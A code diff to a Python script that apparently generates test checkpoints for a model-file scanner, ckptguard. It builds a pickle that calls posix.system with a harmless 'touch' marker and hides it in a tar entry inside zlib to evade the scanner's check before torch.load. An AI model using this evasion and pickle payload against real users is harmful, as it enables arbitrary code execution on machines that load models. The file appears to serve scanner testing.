@@ -6,17 +6,9 @@ ckptguard sniffs the zlib wrapper before tar (Opener::Open returns after OpenWra
 the decompressed pickle; torch.load tries tarfile on any non-zip file first.
 Usage: tar_in_zlib.py OUT MARKER"""
 import sys, struct, zlib
+from tarblocks import header as tar_header
 def payload(marker):
     return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
-def tar_header(name, size):
-    h = bytearray(512)
-    h[0:len(name)] = name
-    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
-    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'; h[156:157] = b'0'
-    h[257:263] = b'ustar\0'; h[263:265] = b'00'
-    h[148:156] = b' ' * 8
-    h[148:156] = b'%06o\0 ' % sum(h)
-    return bytes(h)
 def build(marker):
     pay = payload(marker)
     m1 = tar_header(b'storages', len(pay)) + pay
